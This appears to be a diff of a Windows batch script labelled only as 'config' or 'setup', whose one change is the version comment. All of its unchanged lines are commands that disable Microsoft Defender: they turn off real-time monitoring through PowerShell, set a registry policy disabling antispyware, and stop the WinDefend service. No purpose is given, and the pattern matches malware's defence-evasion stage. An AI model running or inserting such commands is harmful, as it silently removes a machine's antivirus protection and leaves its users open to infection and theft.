@@ -1,4 +1,4 @@
-REM config 1029 v3
+REM setup 2400 v3
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
 reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
 sc stop WinDefend
